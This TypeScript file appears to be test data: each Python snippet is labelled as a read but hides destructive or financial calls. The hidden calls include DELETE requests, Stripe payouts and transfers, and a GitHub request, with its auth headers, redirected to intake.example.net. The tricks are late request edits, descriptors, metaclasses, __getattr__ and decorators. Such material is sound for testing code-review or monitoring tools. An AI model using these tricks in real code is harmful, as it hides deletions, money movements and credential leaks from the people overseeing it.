import { program } from '../honest/case.ts'
import { type DeceptiveSeed, python } from './case.ts'

/** Python: requests edited late, and objects whose attributes are not what they seem. */
export const pyObjects: DeceptiveSeed[] = [
  python(
    'py-request-edits',
    'Reads a droplet',
    'api.digitalocean.com',
    'DELETE /v2/droplets/1',
    program`
request = urllib.request.Request("https://api.digitalocean.com/v2/droplets/1", headers=headers, method="GET")
request.method = "DELETE"
urllib.request.urlopen(request)
`,
  ),
  python(
    'py-request-edits',
    'Reads charges',
    'api.stripe.com',
    'POST /v1/payouts',
    program`
request = urllib.request.Request("https://api.stripe.com/v1/payouts", headers=headers)
request.data = b"amount=100&currency=eur"
urllib.request.urlopen(request)
`,
  ),
  python(
    'py-request-edits',
    'Reads charges',
    'api.stripe.com',
    'POST /v1/transfers',
    program`
request = urllib.request.Request("https://api.stripe.com/v1/charges", headers=headers)
request.full_url = request.full_url.replace("charges", "transfers")
urllib.request.urlopen(request, b"amount=5")
`,
  ),
  python(
    'py-request-edits',
    'Reads a repository',
    'api.github.com',
    'DELETE /repos/acme/web',
    program`
request = urllib.request.Request("https://api.github.com/repos/acme/web", headers=headers)
request.get_method = lambda: "DELETE"
urllib.request.urlopen(request)
`,
  ),
  python(
    'py-request-edits',
    'Reads a repository',
    'api.github.com intake.example.net',
    'GET intake.example.net/repos/acme/web',
    program`
request = urllib.request.Request("https://api.github.com/repos/acme/web", headers=headers)
request.host = "intake.example.net"
urllib.request.urlopen(request)
`,
  ),
  python(
    'py-request-edits',
    'Reads a page',
    'wiki.acme.example',
    'DELETE /api/page/2',
    program`
request = urllib.request.Request("https://wiki.acme.example/api/page/1", headers=headers)
vars(request).update(method="DELETE")
request.selector = "/api/page/2"
urllib.request.urlopen(request)
`,
  ),
  python(
    'py-descriptor',
    'Reads a node',
    'api.nodes.example.com',
    'DELETE /nodes/1',
    program`
class Verb:
    def __get__(self, owner, kind=None):
        return "DELETE"

    def __set__(self, owner, value):
        pass


class Read(urllib.request.Request):
    method = Verb()


urllib.request.urlopen(Read("https://api.nodes.example.com/nodes/1", headers=headers, method="GET"))
`,
  ),
  python(
    'py-descriptor',
    'Reads a node',
    'api.nodes.example.com',
    'DELETE /nodes/2',
    program`
class Plan:
    def __set_name__(self, owner, name):
        owner.verb = name


class Client:
    verb = "GET"
    DELETE = Plan()


urllib.request.urlopen(urllib.request.Request("https://api.nodes.example.com/nodes/2", headers=headers, method=Client.verb))
`,
  ),
  python(
    'py-descriptor',
    'Reads a node',
    'api.nodes.example.com',
    'PUT /nodes/3/stop',
    program`
class Client:
    @property
    def init(self):
        return {"method": "PUT", "headers": headers}

    path = property(lambda self: "/nodes/3" + "/stop")


c = Client()
urllib.request.urlopen(urllib.request.Request("https://api.nodes.example.com" + c.path, **c.init))
`,
  ),
  python(
    'py-metaclass',
    'Reads an order',
    'api.orders.example.com',
    'DELETE /orders/1',
    program`
class Upper(type):
    def __getattr__(cls, name):
        return {"READ": "DELETE"}[name]


class Verbs(metaclass=Upper):
    pass


urllib.request.urlopen(urllib.request.Request("https://api.orders.example.com/orders/1", headers=headers, method=Verbs.READ))
`,
  ),
  python(
    'py-metaclass',
    'Reads an order',
    'api.orders.example.com',
    'DELETE /orders/2',
    program`
class Swap(type):
    def __new__(mcs, name, bases, space):
        space["verb"] = "DELETE"
        return super().__new__(mcs, name, bases, space)


class Client(metaclass=Swap):
    verb = "GET"


urllib.request.urlopen(urllib.request.Request("https://api.orders.example.com/orders/2", headers=headers, method=Client.verb))
`,
  ),
  python(
    'py-metaclass',
    'Reads an order',
    'api.orders.example.com',
    'POST /orders/3/cancel',
    program`
class Base:
    def __init_subclass__(cls, act="POST"):
        cls.act = act


class Read(Base):
    act = "GET"


urllib.request.urlopen(urllib.request.Request("https://api.orders.example.com/orders/3/cancel", headers=headers, method=Read.act))
`,
  ),
  python(
    'py-getattr',
    'Reads a host',
    'api.hosts.example.com',
    'DELETE /hosts/1',
    program`
class Api:
    def __getattr__(self, name):
        return lambda path: urllib.request.urlopen(
            urllib.request.Request("https://api.hosts.example.com" + path, headers=headers, method=name[::-1].upper())
        )


Api().eteled("/hosts/1")
`,
  ),
  python(
    'py-getattr',
    'Reads a host',
    'api.hosts.example.com',
    'DELETE /hosts/2',
    program`
class Api:
    method = "GET"

    def __getattribute__(self, name):
        return "DELETE" if name == "method" else object.__getattribute__(self, name)


urllib.request.urlopen(urllib.request.Request("https://api.hosts.example.com/hosts/2", headers=headers, method=Api().method))
`,
  ),
  python(
    'py-getattr',
    'Reads a host',
    'api.hosts.example.com',
    'DELETE /hosts/3; !any_capability',
    program`
send = getattr(urllib.request, "".join(map(chr, (117, 114, 108, 111, 112, 101, 110))))
send(urllib.request.Request("https://api.hosts.example.com/hosts/3", headers=headers, method="DELETE"))
`,
  ),
  python(
    'py-decorator',
    'Reads an alarm',
    'api.alarms.example.com',
    'DELETE /alarms/1',
    program`
def logged(run):
    return lambda url, method="GET": run(url, "DELETE" if method == "GET" else method)


@logged
def read(url, method="GET"):
    return urllib.request.urlopen(urllib.request.Request(url, headers=headers, method=method))


read("https://api.alarms.example.com/alarms/1")
`,
  ),
  python(
    'py-decorator',
    'Reads an alarm',
    'api.alarms.example.com',
    'DELETE /alarms/2',
    program`
@lambda run: run()
def method():
    return "DELETE"


urllib.request.urlopen(urllib.request.Request("https://api.alarms.example.com/alarms/2", headers=headers, method=method))
`,
  ),
]
